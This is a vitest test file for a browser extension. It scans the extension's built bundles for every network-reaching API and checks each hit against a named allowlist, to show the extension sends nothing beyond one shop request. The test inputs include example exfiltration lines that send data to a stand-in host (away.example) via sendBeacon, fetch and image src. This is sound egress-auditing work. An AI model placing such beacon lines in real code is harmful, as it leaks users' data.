// Nothing in the extension as it ships can send anything but the one file that asks a shop, after a press: every
// name by which a script reaches the network is looked for in the built files of both browsers, and each place where
// one stands is named here. The names are those of the web platform (Fetch, XHR, WebSockets, WebTransport,
// server-sent events, Beacon, WebRTC, HTML's loading elements) and of the two browsers' extension APIs.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { shelfFacts } from '../../dictionary/shelf.ts';
import { root } from '../run/steps.ts';

const ways = [
  /\bfetch\b/,
  /\bfetchLater\b/,
  /\bXMLHttpRequest\b/,
  /\bWebSocket(?:Stream)?\b/,
  /\bWebTransport\b/,
  /\bEventSource\b/,
  /\bsendBeacon\b/,
  /\b(?:webkit|moz)?RTCPeerConnection\b/,
  /\bimportScripts\b/,
  /\bimport\(/,
  /\bimport\s*["'`]\s*(?:https?:)?\/\//,
  /\bfrom\s*["'`]\s*(?:https?:)?\/\//,
  /\bnew\s+(?:Worker|SharedWorker|Image|Audio|FontFace|Request)\b/,
  /\bserviceWorker\b/,
  /\.(?:src|srcset|srcdoc|poster)\s*=[^=]/,
  /\b(?:setAttribute|createElement)\(\s*["'`](?:src|srcset|href|action|img|iframe|script|link|form|object|embed|video|audio|source|base|meta)["'`]/,
  /\b(?:innerHTML|outerHTML|srcdoc)\s*=[^=]/,
  /\b(?:insertAdjacentHTML|setHTMLUnsafe|setHTML|document\.write(?:ln)?)\s*\(/,
  /\b(?:preconnect|prefetch|prerender|speculationrules|dns-prefetch)\b/,
  /\.(?:submit|requestSubmit)\s*\(/,
  /\b(?:location\.(?:assign|replace)|window\.open|navigation\.navigate)\s*\(/,
  /(?<![\w$]\.)\blocation(?:\.href)?\s*=[^=]/,
  /\b(?:window|document|self|top|parent|globalThis)\.location(?:\.href)?\s*=[^=]/,
  /\b(?:eval|Function)\s*\(\s*["'`\w]/,
  /\bsetUninstallURL\b/,
  /\b(?:downloads|webRequest|proxy|identity|gcm|instanceID|connectNative|sendNativeMessage)\b\s*[.(]/,
  /@import\b/,
  /\burl\(\s*["']?\s*(?:https?:)?\/\//,
  /<(?:img|script|iframe|link|object|embed|video|audio|source|form)\b[^>]*\b(?:src|href|data|action)\s*=\s*["']?(?:https?:)?\/\//i,
];

/** Where one of these may stand: file, the letters around it, how often, and what it does there. */
const allowed: { file: RegExp; around: RegExp; times: number; does: string }[] = [
  {
    file: /^shelf\.js$/,
    around:
      /\.fetch\(\w+,\{method:[`"]GET[`"],mode:[`"]same-origin[`"],credentials:[`"]omit[`"],referrerPolicy:[`"]no-referrer[`"],/,
    times: 1,
    does: 'asks this shop for one page',
  },
  {
    file: /^shelf\.js$/,
    around: /network:\{fetch:\((\w+),(\w+)\)=>fetch\(\1,\2\)/,
    times: 2,
    does: 'the browser’s own fetch, handed to it',
  },
  {
    file: /^background\.js$/,
    around: /fetch\(\w+\.getURL\(`\/words\/\$\{\w+\}\.json`\)\)/,
    times: 1,
    does: 'words of a language, from the extension’s own files',
  },
  {
    file: /^chunks\/live-world-[\w-]+\.js$/,
    around: /fetch\(\w+\.getURL\(`\/words\/\$\{\w+\}\.json`\)\)/,
    times: 1,
    does: 'words of a language, from the extension’s own files',
  },
  {
    file: /^chunks\/[\w-]+\.js$/,
    around: /e\.ep=!0;let n=t\(e\);fetch\(e\.href,n\)/,
    times: 1,
    does: 'the builder’s help for browsers that cannot preload modules: links of our own pages',
  },
  {
    file: /^chunks\/[\w-]+\.js$/,
    around: /createElement\(`link`\)(?:\.relList;if|;if\(t\.rel=i\?`stylesheet`)/,
    times: 2,
    does: 'the builder’s loading of our own styles and modules beforehand',
  },
  {
    file: /^chunks\/ical-[\w-]+\.js$/,
    around: /tzid=``;location=``;tznames=``/,
    times: 1,
    does: 'a field of a time zone',
  },
  {
    file: /^(?:chunks|assets)\/[\w.-]+\.js$/,
    around: /\bimport\(`\.\/[\w.-]+\.js`\)/,
    times: 60,
    does: 'a part of ours, loaded when it is first shown',
  },
  {
    file: /^chunks\/[\w-]+\.js$/,
    around: /new Worker\(new URL\(`\/assets\/plan-worker-[\w-]+\.js`,``\+self\.location\.href\)/,
    times: 1,
    does: 'the worker that plans, from the extension’s own files',
  },
  {
    file: /^chunks\/[\w-]+\.js$/,
    around: /new Image;\w+\.src=`data:image\/svg\+xml;/,
    times: 2,
    does: 'a chart made into a picture, out of itself',
  },
  {
    file: /^chunks\/read-picture-[\w-]+\.js$/,
    around: /"node-fetch":`\^/,
    times: 1,
    does: 'a name in a list of packages',
  },
  {
    file: /^chunks\/read-picture-[\w-]+\.js$/,
    around: /workerPath:(\w+)\}\)=>new Worker\(\1\)/,
    times: 1,
    does: 'the worker that reads print, from the extension’s own files',
  },
  {
    file: /^print-reader\/tesseract-core-simd-lstm\.js$/,
    around: /fetch\(\w+,\{credentials:"same-origin"\}\)/,
    times: 2,
    does: 'its compiled part, which lies beside it',
  },
  {
    file: /^print-reader\/worker\.min\.js$/,
    around: /"webworker"===v\?fetch:I\.fetch\)\(O\)/,
    times: 2,
    does: 'what letters look like, from the folder it is given',
  },
  {
    file: /^print-reader\/worker\.min\.js$/,
    around: /gunzip:\w+,fetch:function\(\)\{\}/,
    times: 1,
    does: 'nothing',
  },
  {
    file: /^print-reader\/worker\.min\.js$/,
    around: /r\.g\.importScripts\(l\)/,
    times: 1,
    does: 'its core, from the path it is given',
  },
  {
    file: /^chunks\/welcome-[\w-]+\.js$/,
    around: /location\.assign\(chrome\.runtime\.getURL\(/,
    times: 1,
    does: 'from the first run to the panel',
  },
];

/** Every place of a script where something could be sent or loaded, with the letters around it. */
function places(code: string): { at: number; around: string }[] {
  return ways.flatMap((way) =>
    [...code.matchAll(new RegExp(way, `g${way.flags}`))].map(({ index: at }) => ({
      at,
      around: code.slice(Math.max(0, at - 60), at + 140),
    })),
  );
}

const files = (folder: string) =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => /\.(?:js|html|css)$/.test(name))
    .map((name) => ({ name, code: readFileSync(join(folder, name), 'utf8') }));

describe.each(['chrome-mv3', 'firefox-mv3'])('%s', (build) => {
  const all = files(join(root, '.output', build));

  it('can send nothing but what is named here', () => {
    expect(all.length).toBeGreaterThan(20);
    const met = new Map<(typeof allowed)[number], number>();
    const unknown = all.flatMap(({ name, code }) =>
      places(code).flatMap(({ around }) => {
        const use = allowed.find((each) => each.file.test(name) && each.around.test(around));
        if (use) met.set(use, (met.get(use) ?? 0) + 1);
        return use ? [] : [`${name}: ${around}`];
      }),
    );
    expect(unknown).toEqual([]);
    for (const use of allowed) {
      expect(met.get(use) ?? 0, use.does).toBeLessThanOrEqual(use.times);
      if (use.file.source.includes('shelf')) expect(met.get(use), use.does).toBe(use.times);
    }
  });

  it('what reads print knows no address of elsewhere to ask', () => {
    const reader = all.filter(({ name }) => /^print-reader\/|read-picture/.test(name));
    expect(reader).toHaveLength(3);
    const addresses = reader.flatMap(({ code }) => code.match(/(?:https?|wss?):\/\/[\w.-]+/g) ?? []);
    // Of its packages' own description and of a note to developers.
    expect(
      addresses.filter(
        (each) => !/^(?:https:\/\/(?:github|opencollective)\.com|http:\/\/localhost)$/.test(each),
      ),
    ).toEqual([]);
  });

  it('in pages of shops, only the script of shelves can; nor can what the panel asks first', () => {
    const inPages = all.filter(({ name }) => /^(?:content-scripts\/)?[a-z]+\.js$/.test(name));
    expect(inPages.map(({ name }) => name).toSorted()).toEqual([
      'background.js',
      'content-scripts/reader.js',
      'early.js',
      'painter.js',
      'picker.js',
      'shelf.js',
      'taught.js',
    ]);
    const can = inPages.filter(({ code }) => places(code).length > 0).map(({ name }) => name);
    expect(can).toEqual(expect.arrayContaining(['shelf.js']));
    expect(can.filter((name) => name !== 'shelf.js' && name !== 'background.js')).toEqual([]);
  });
});

it.each([
  'navigator.sendBeacon("https://away.example", x)',
  'fetch(`https://away.example/`+x)',
  'globalThis["fetch"](x)',
  'new Image().src = "https://away.example/?" + x',
  'i.src=`https://away.example/?`+x',
  'new XMLHttpRequest',
  'import("https://away.example/x.js")',
  'e.innerHTML=`<img src=https://away.example>`',
  'new WebSocket(u)',
  'new RTCPeerConnection({iceServers:[]})',
  'location.href=u',
  'chrome.runtime.setUninstallURL(u)',
  'a{background:url(https://away.example/x.png)}',
  '<img src="//away.example/x.png">',
])('would see %s', (code) => {
  const seen = places(code);
  expect(seen.length).toBeGreaterThan(0);
  expect(seen.some(({ around }) => allowed.some((use) => use.around.test(around)))).toBe(false);
});

it.each(['en', 'de', 'es', 'fr', 'pt-BR'])(
  'what a press does is told with the numbers that hold: %s',
  (lang) => {
    const words: Record<string, string> =
      lang === 'en'
        ? Object.assign(
            {},
            ...['shelf', 'settings', 'welcome'].map((area) =>
              JSON.parse(readFileSync(join(root, `src/ui/words/en/${area}.json`), 'utf8')),
            ),
          )
        : JSON.parse(readFileSync(join(root, `src/assets/words/${lang}.json`), 'utf8'));
    const { perPress, atOnce, gapMs } = shelfFacts.manners;
    for (const key of ['shelf.first', 'settings.privacy.shelf', 'welcome.kept.shelf'])
      expect(words[key], key).toContain(String(perPress));
    // "two at once, half a second apart" is written out.
    expect([atOnce, gapMs]).toEqual([2, 500]);
  },
);
